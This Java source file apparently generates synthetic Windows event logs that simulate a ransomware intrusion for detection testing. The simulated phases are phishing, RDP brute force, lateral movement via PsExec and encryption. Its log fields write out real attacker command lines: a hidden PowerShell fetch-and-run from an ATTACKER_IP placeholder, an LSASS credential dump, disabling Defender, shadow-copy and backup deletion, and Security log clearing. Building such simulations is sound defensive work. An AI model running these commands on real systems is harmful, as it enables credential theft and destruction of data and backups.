package io.vigil.generate;

import static io.vigil.generate.KillChain.ADMIN;
import static io.vigil.generate.KillChain.ATTACKER_IP;
import static io.vigil.generate.KillChain.ENCRYPTOR;
import static io.vigil.generate.KillChain.ENTRY;
import static io.vigil.generate.KillChain.ENTRY_IP;
import static io.vigil.generate.KillChain.RENAMES_PER_STEP;
import static io.vigil.generate.KillChain.TARGETS;
import static io.vigil.generate.KillChain.VICTIM;

import java.util.ArrayList;
import java.util.List;

/**
 * The events of each {@link KillChain} phase, modelled on what Sysmon, the Security and System logs record
 * for these techniques (command lines as ransomware crews type them). Times advance by a few milliseconds
 * per event inside a phase. Stateless apart from the event builder; thread-safe.
 */
final class KillChainPhases {
    private static final String S32 = "C:\\Windows\\System32\\";
    private static final String CMD = S32 + "cmd.exe";
    private static final String POWERSHELL = S32 + "WindowsPowerShell\\v1.0\\powershell.exe";
    private static final String PSEXESVC = "C:\\Windows\\PSEXESVC.exe";
    private static final String OUTLOOK = "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE";
    private static final String NOTE = "README_RESTORE_FILES.txt";
    private static final String EXTENSION = ".lockbit";
    private static final int DIRECTORIES = 30;
    private static final List<String> DOCUMENTS = List.of("manifest", "routes", "payroll", "customs", "invoices",
            "tracking", "claims", "contracts");

    private final WindowsEvents w;

    KillChainPhases(WindowsEvents w) {
        this.w = w;
    }

    List<String> phishing(long t) {
        String script = "C:\\Users\\lena.fischer\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q7T2\\Parcel_Notice_88213.js";
        return List.of(
                w.process("phishing", ENTRY, t, VICTIM, OUTLOOK, S32 + "wscript.exe", "\"C:\\Windows\\System32\\WScript.exe\" \"" + script + "\""),
                w.process("phishing", ENTRY, t + 40, VICTIM, S32 + "wscript.exe", POWERSHELL,
                        "powershell.exe -nop -w hidden -c \"iwr http://" + ATTACKER_IP + "/p.ps1 -UseBasicParsing | iex\""));
    }

    List<String> rdpBruteForce(long t) {
        List<String> out = new ArrayList<>();
        for (int i = 0; i < 15; i++) {
            out.add(w.security("rdp-brute-force", 4625, ENTRY, t + i * 60L, "TargetUserName", "adm.ops", "TargetDomainName", "POST",
                    "LogonType", "10", "IpAddress", ATTACKER_IP, "IpPort", "0", "Status", "0xc000006d", "SubStatus", "0xc000006a",
                    "WorkstationName", "KALI"));
        }
        out.add(w.security("rdp-brute-force", 4624, ENTRY, t + 1000, "TargetUserName", "adm.ops", "TargetDomainName", "POST",
                "LogonType", "10", "IpAddress", ATTACKER_IP, "IpPort", "51920", "WorkstationName", "KALI",
                "LogonProcessName", "User32", "AuthenticationPackageName", "Negotiate"));
        return out;
    }

    List<String> credentialDumping(long t) {
        return List.of(
                w.process("credential-dumping", ENTRY, t, ADMIN, CMD, S32 + "rundll32.exe",
                        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 664 C:\\Users\\Public\\d.bin full"),
                w.event("credential-dumping", WindowsEvents.SYSMON, "Microsoft-Windows-Sysmon", 10, ENTRY, t + 30,
                        "SourceImage", S32 + "rundll32.exe", "TargetImage", S32 + "lsass.exe", "GrantedAccess", "0x1FFFFF",
                        "CallTrace", "C:\\Windows\\SYSTEM32\\ntdll.dll+9d1e4|C:\\Windows\\System32\\dbgcore.DLL+6c7f|C:\\Windows\\System32\\comsvcs.dll+3b1d",
                        "SourceUser", ADMIN));
    }

    List<String> lateralMovement(long t) {
        List<String> out = new ArrayList<>();
        for (String target : TARGETS) {
            out.add(w.security("lateral-movement", 5145, target, t, "SubjectUserName", "adm.ops", "SubjectDomainName", "POST",
                    "IpAddress", ENTRY_IP, "IpPort", "49811", "ShareName", "\\\\*\\ADMIN$", "ShareLocalPath", "\\??\\C:\\Windows",
                    "RelativeTargetName", "PSEXESVC.exe", "AccessMask", "0x2"));
            out.add(w.system("lateral-movement", 7045, target, t + 50, "ServiceName", "PSEXESVC", "ImagePath",
                    "%SystemRoot%\\PSEXESVC.exe", "ServiceType", "user mode service", "StartType", "demand start",
                    "AccountName", "LocalSystem"));
            out.add(w.process("lateral-movement", target, t + 120, ADMIN, PSEXESVC, CMD, "\"cmd\" /c C:\\ProgramData\\svcupd\\run.bat"));
            t += 300;
        }
        return out;
    }

    List<String> defenseEvasion(long t) {
        List<String> out = new ArrayList<>();
        for (String target : TARGETS) {
            out.add(w.process("defense-evasion", target, t, ADMIN, CMD, POWERSHELL,
                    "powershell.exe -c Set-MpPreference -DisableRealtimeMonitoring $true -DisableIOAVProtection $true"));
            out.add(w.event("defense-evasion", "Microsoft-Windows-Windows Defender/Operational", "Microsoft-Windows-Windows Defender",
                    5001, target, t + 200, "Product Name", "Microsoft Defender Antivirus"));
            t += 100;
        }
        return out;
    }

    List<String> serviceStop(long t) {
        List<String> out = new ArrayList<>();
        List<String[]> services = List.of(new String[] {"MSSQLSERVER", "SQL Server (MSSQLSERVER)"},
                new String[] {"SQLSERVERAGENT", "SQL Server Agent (MSSQLSERVER)"},
                new String[] {"VeeamBackupSvc", "Veeam Backup Service"}, new String[] {"VSS", "Volume Shadow Copy"},
                new String[] {"MSExchangeIS", "Microsoft Exchange Information Store"});
        for (String target : TARGETS) {
            for (String[] s : services) {
                out.add(w.process("service-stop", target, t, ADMIN, CMD, S32 + "net.exe", "net stop " + s[0] + " /y"));
                out.add(w.process("service-stop", target, t + 5, ADMIN, S32 + "net.exe", S32 + "net1.exe",
                        "C:\\Windows\\system32\\net1 stop " + s[0] + " /y"));
                out.add(w.system("service-stop", 7036, target, t + 150, "param1", s[1], "param2", "stopped"));
                t += 20;
            }
        }
        return out;
    }

    List<String> shadowCopyDeletion(long t) {
        List<String> out = new ArrayList<>();
        for (String target : TARGETS) {
            out.add(w.process("shadow-copy-deletion", target, t, ADMIN, CMD, S32 + "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"));
            out.add(w.process("shadow-copy-deletion", target, t + 20, ADMIN, CMD, S32 + "wbem\\WMIC.exe", "wmic shadowcopy delete"));
            out.add(w.process("shadow-copy-deletion", target, t + 40, ADMIN, CMD, S32 + "bcdedit.exe",
                    "bcdedit /set {default} recoveryenabled No"));
            out.add(w.process("shadow-copy-deletion", target, t + 60, ADMIN, CMD, S32 + "bcdedit.exe",
                    "bcdedit /set {default} bootstatuspolicy ignoreallfailures"));
            out.add(w.process("shadow-copy-deletion", target, t + 80, ADMIN, CMD, S32 + "wbadmin.exe", "wbadmin delete catalog -quiet"));
            t += 100;
        }
        return out;
    }

    /** Step {@code index} of the burst: per server, {@value KillChain#RENAMES_PER_STEP} files renamed, notes in new folders. */
    List<String> encryption(long t, int index) {
        List<String> out = new ArrayList<>();
        for (int h = 0; h < TARGETS.size(); h++) {
            String target = TARGETS.get(h);
            String root = h == 0 ? "D:\\Shares\\Sorting\\" : "E:\\Shares\\Finance\\";
            for (int j = 0; j < RENAMES_PER_STEP; j++) {
                int k = index * RENAMES_PER_STEP + j;
                String dir = root + "Region-" + String.format("%02d", k % DIRECTORIES);
                String original = dir + "\\" + DOCUMENTS.get(k % DOCUMENTS.size()) + "_" + (1000 + k) + ".xlsx";
                long at = t + j * 8L;
                if (k < DIRECTORIES) out.add(w.file("encryption", target, at, ADMIN, ENCRYPTOR, dir + "\\" + NOTE, true));
                out.add(w.file("encryption", target, at + 2, ADMIN, ENCRYPTOR, original + EXTENSION, true));
                out.add(w.file("encryption", target, at + 4, ADMIN, ENCRYPTOR, original, false));
            }
        }
        return out;
    }

    List<String> logClearing(long t) {
        List<String> out = new ArrayList<>();
        for (String target : TARGETS) {
            out.add(w.process("log-clearing", target, t, ADMIN, CMD, S32 + "wevtutil.exe", "wevtutil cl Security"));
            out.add(w.event("log-clearing", "Security", "Microsoft-Windows-Eventlog", 1102, target, t + 30,
                    "SubjectUserName", "adm.ops", "SubjectDomainName", "POST"));
            t += 100;
        }
        return out;
    }
}
